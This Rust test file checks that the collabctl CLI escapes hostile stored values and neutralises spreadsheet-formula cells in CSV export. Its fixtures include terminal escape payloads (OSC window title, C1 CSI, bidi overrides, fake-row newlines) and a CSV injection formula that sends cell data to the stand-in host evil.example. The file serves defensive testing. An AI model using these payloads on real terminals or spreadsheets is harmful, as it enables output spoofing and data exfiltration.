//! What `collabctl` prints when stored values are hostile (issue #20 parts 3 and 4): a 2 MB
//! Subject and terminal escapes in mail and names must neither crash a table nor reach the
//! terminal raw, and CSV cells that start a formula are neutralised unless `--raw`.

use std::io::BufRead;
use std::time::Duration;

use crate::harness::*;

/// Colour, an OSC window title, a one-char C1 CSI, a bidi override, and a newline that
/// would print a fake table row.
const HOSTILE: &str = "Eve\x1b[31mRED\x1b]0;pwned\x07\u{9b}2J\u{202e}evil\u{2066}\r\n42  FAKE  ROW";

/// The widest line a table may print: every cell cut to 60 chars, the last to 200, two
/// spaces between (ten columns, as `status` has).
const TABLE_LINE_MAX: usize = 9 * (60 + 2) + 200;
/// `collab show`'s free-text lines are cut at 2,000 chars (plus their label).
const TEXT_LINE_MAX: usize = 2000 + 20;

/// Whether a char must never reach the terminal raw (LF is the output's own line break).
fn unsafe_char(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}')
        || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// Runs collabctl, which must succeed, and checks that its output is safe to show: no raw
/// control byte (ESC, BEL, C1, bidi), no faked row, no line over `max_line` chars.
fn safe_output(env: &DaemonEnv, args: &[&str], max_line: usize) -> String {
    let (ok, out, err) = collabctl(env, args);
    let shown = |s: &str| s.chars().take(2000).collect::<String>();
    assert!(ok, "collabctl {args:?} failed: {}", shown(&err));
    assert!(!out.as_bytes().contains(&0x1b) && !out.as_bytes().contains(&0x07), "{args:?}");
    assert!(!err.as_bytes().contains(&0x1b), "{args:?}: {}", shown(&err));
    if let Some(c) = out.chars().find(|&c| unsafe_char(c)) {
        panic!("collabctl {args:?} printed {c:?} raw: {}", shown(&out));
    }
    for line in out.lines() {
        assert!(!line.trim_start().starts_with("42  FAKE"), "{args:?} faked a row: {out}");
        let width = line.chars().count();
        assert!(width <= max_line, "collabctl {args:?}: a line of {width} chars");
    }
    out
}

/// `s` as one RFC 2047 encoded word per char (so no word splits a UTF-8 sequence), the
/// words on folded lines: control chars reach the parser with the header still ASCII.
fn encoded_words(s: &str) -> String {
    let words: Vec<String> = s
        .chars()
        .map(|c| {
            let mut b = [0; 4];
            let q: String = c.encode_utf8(&mut b).bytes().map(|b| format!("={b:02X}")).collect();
            format!("=?UTF-8?Q?{q}?=")
        })
        .collect();
    words.join("\r\n ")
}

/// A stranger's mail: the hostile From name, a Subject of the hostile text and 2 MB more.
fn hostile_mail() -> Vec<u8> {
    let mut subject = encoded_words(HOSTILE);
    // Folded into lines of 1,000 chars, as a mail header must be: 2 MB once unfolded.
    for _ in 0..2100 {
        subject.push_str("\r\n ");
        subject.push_str(&"S".repeat(999));
    }
    format!(
        "From: {} <stranger@else.example>\r\nTo: Brand <{BRAND}>\r\nSubject: {subject}\r\n\
         Date: Mon, 23 Nov 2026 10:00:00 +0000\r\nMessage-ID: <hostile-1@else.example>\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nHi, about that deal.\r\n",
        encoded_words(HOSTILE)
    )
    .into_bytes()
}

/// Inserts straight into the table: values stored before any validation existed.
async fn insert(db: &TestDb, sql: &str, values: &[&str]) -> i64 {
    let mut q = sqlx::query_scalar::<_, i64>(sql);
    for v in values {
        q = q.bind(*v);
    }
    q.fetch_one(&db.pool).await.unwrap()
}

/// Starts a human `collabctl watch`; returns it and its lines.
async fn watch(
    env: &DaemonEnv,
    daemon: &DaemonProc,
) -> (std::process::Child, std::sync::mpsc::Receiver<Vec<u8>>) {
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_collabctl"))
        .arg("--socket")
        .arg(env.path("admin.sock"))
        .arg("watch")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = || async { daemon.logs().contains("admin watch started") };
    assert!(eventually(Duration::from_secs(10), started).await, "{}", daemon.logs());
    let (tx, rx) = std::sync::mpsc::channel();
    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    std::thread::spawn(move || {
        let mut line = Vec::new();
        while stdout.read_until(b'\n', &mut line).is_ok_and(|n| n > 0) {
            if tx.send(std::mem::take(&mut line)).is_err() {
                break;
            }
        }
    });
    (child, rx)
}

#[tokio::test]
async fn hostile_mail_and_names_are_shown_escaped_and_cut_by_every_command() {
    let app = spawn_app(AppOptions::default()).await;
    let (db, imap, env, daemon) = (&app.db, app.imap(), &app.env, &app.daemon);
    let long_name = format!("{HOSTILE}{}", "N".repeat(100_000));
    let creator = insert(
        db,
        "INSERT INTO creators (name, platform, handle) VALUES ($1, 'tiktok', $2) RETURNING id",
        &[&long_name, &format!("eve{HOSTILE}{}", "h".repeat(500))],
    )
    .await;
    // A campaign name is indexed, so at most a few kB can be stored.
    let campaign_name = format!("{HOSTILE}{}", "C".repeat(1000));
    let campaign =
        insert(db, "INSERT INTO campaigns (name) VALUES ($1) RETURNING id", &[&campaign_name])
            .await;

    let (mut watcher, lines) = watch(env, daemon).await;
    imap.append(hostile_mail()).await;
    wait_for_rows(db, "inbound_messages", 1, Duration::from_secs(30), daemon).await;

    let line = lines.recv_timeout(Duration::from_secs(20)).expect("a watch line");
    let _ = watcher.kill();
    let _ = watcher.wait();

    // The table cuts the 2 MB subject and shows the From name escaped.
    let inbox = safe_output(env, &["inbox", "unmatched"], TABLE_LINE_MAX);
    assert_eq!(inbox.lines().count(), 2, "{inbox}");
    assert!(inbox.contains("Eve\\e[31mRED\\e]0;pwned\\u{7}\\u{9b}2J\\u{202e}evil"), "{inbox}");
    assert!(inbox.contains('…'), "{inbox}");
    // --json is exact (every byte of the subject) and still prints nothing raw.
    let json = safe_output(env, &["--json", "inbox", "unmatched"], usize::MAX);
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    let subject = v[0]["subject"].as_str().unwrap();
    assert!(subject.starts_with(HOSTILE) && subject.len() > 2_000_000, "{}", &subject[..100]);
    assert_eq!(v[0]["from_name"], HOSTILE);

    // `watch` prints the unmatched mail as one escaped, bounded line.
    let line = String::from_utf8(line).unwrap();
    assert!(line.contains("unmatched") && line.contains("\\e[31m"), "{line}");
    let body = line.strip_suffix('\n').unwrap_or(&line);
    assert!(!body.contains('\n') && !body.chars().any(unsafe_char), "{body}");
    assert!(line.chars().count() < 400, "a watch line of {} chars", line.chars().count());

    let msg = v[0]["id"].to_string();
    let (creator, campaign) = (creator.to_string(), campaign.to_string());
    let assign = ["inbox", "assign", &msg, "--creator", &creator, "--campaign", &campaign];
    safe_output(env, &assign, TEXT_LINE_MAX);
    sqlx::query("UPDATE collaborations SET additional_terms = $1 || repeat('T', 100000)")
        .bind(HOSTILE)
        .execute(&db.pool)
        .await
        .unwrap();
    let id = db.count("SELECT id FROM collaborations").await.to_string();
    let list = safe_output(env, &["collab", "list"], TABLE_LINE_MAX);
    assert_eq!(list.lines().count(), 2, "{list}");
    let shown = safe_output(env, &["collab", "show", &id], TEXT_LINE_MAX);
    assert!(shown.contains("terms: Eve\\e[31m"), "{shown}");
    safe_output(env, &["collab", "list", "--all"], TABLE_LINE_MAX);
    let creators = safe_output(env, &["creator", "list"], TABLE_LINE_MAX);
    assert_eq!(creators.lines().count(), 2, "{creators}");
    safe_output(env, &["creator", "show", &creator], TABLE_LINE_MAX);
    let campaigns = safe_output(env, &["campaign", "list"], TABLE_LINE_MAX);
    assert_eq!(campaigns.lines().count(), 2, "{campaigns}");
    safe_output(env, &["status"], TABLE_LINE_MAX);
    for args in [&["--json", "collab", "show", &id][..], &["--json", "creator", "list"]] {
        safe_output(env, args, usize::MAX);
    }
    // An error that names a stored value echoes it escaped.
    let (ok, _, err) = collabctl(env, &["campaign", "create", &campaign_name]);
    assert!(!ok && !err.contains('\x1b') && !err.trim_end().contains('\n'), "{err}");
}

/// Formula-looking values, one per creator (name), campaign and terms.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\tTabbed",
    "\rCarriage",
    "-5",
];

#[tokio::test]
async fn csv_export_neutralises_formula_cells_unless_raw() {
    let app = spawn_app(AppOptions::default()).await;
    let (db, env) = (&app.db, &app.env);
    for (i, f) in FORMULAS.iter().enumerate() {
        let creator = insert(
            db,
            "INSERT INTO creators (name, platform, handle) VALUES ($1, 'tiktok', $2) RETURNING id",
            &[f, &format!("h{i}")],
        )
        .await;
        let campaign = insert(
            db,
            "INSERT INTO campaigns (name) VALUES ($1) RETURNING id",
            &[&format!("{f}{i}")],
        )
        .await;
        sqlx::query(
            "INSERT INTO collaborations (creator_id, campaign_id, source, additional_terms)
             VALUES ($1, $2, 'manual', $3)",
        )
        .bind(creator)
        .bind(campaign)
        .bind(f)
        .execute(&db.pool)
        .await
        .unwrap();
    }
    let export = |raw: bool| -> Vec<csv::StringRecord> {
        let mut args = vec!["collab", "export", "--format", "csv"];
        args.extend(raw.then_some("--raw"));
        let (ok, out, err) = collabctl(env, &args);
        assert!(ok, "{err}");
        let mut rdr = csv::Reader::from_reader(out.as_bytes());
        assert_eq!(&rdr.headers().unwrap()[4], "creator_name");
        let mut rows: Vec<_> = rdr.records().map(Result::unwrap).collect();
        rows.sort_by_key(|r| r[0].parse::<i64>().unwrap());
        rows
    };
    let safe = export(false);
    assert_eq!(safe.len(), FORMULAS.len());
    for (i, f) in FORMULAS.iter().enumerate() {
        let s = &safe[i];
        // creator_name, campaign, additional_terms
        let want = (&*format!("'{f}"), &*format!("'{f}{i}"), &*format!("'{f}"));
        assert_eq!((&s[4], &s[6], &s[10]), want);
    }
    let raw = export(true);
    for (i, f) in FORMULAS.iter().enumerate() {
        let (s, r) = (&safe[i], &raw[i]);
        assert_eq!((&r[4], &r[6], &r[10]), (*f, &*format!("{f}{i}"), *f));
        // Cells that start no formula are the same either way.
        for col in [0, 1, 2, 3, 5, 7, 8, 9, 11, 12, 13] {
            assert_eq!(s[col], r[col], "column {col}");
            assert!(!s[col].starts_with('\''), "column {col}: {}", &s[col]);
        }
    }
    // JSONL is as stored.
    let (ok, jsonl, _) = collabctl(env, &["collab", "export", "--format", "jsonl"]);
    assert!(ok && jsonl.contains("\"additional_terms\":\"=HYPERLINK"), "{jsonl}");
    let (ok, help, _) = collabctl(env, &["collab", "export", "--help"]);
    assert!(ok && help.contains("--raw") && help.contains("OWASP"), "{help}");
}
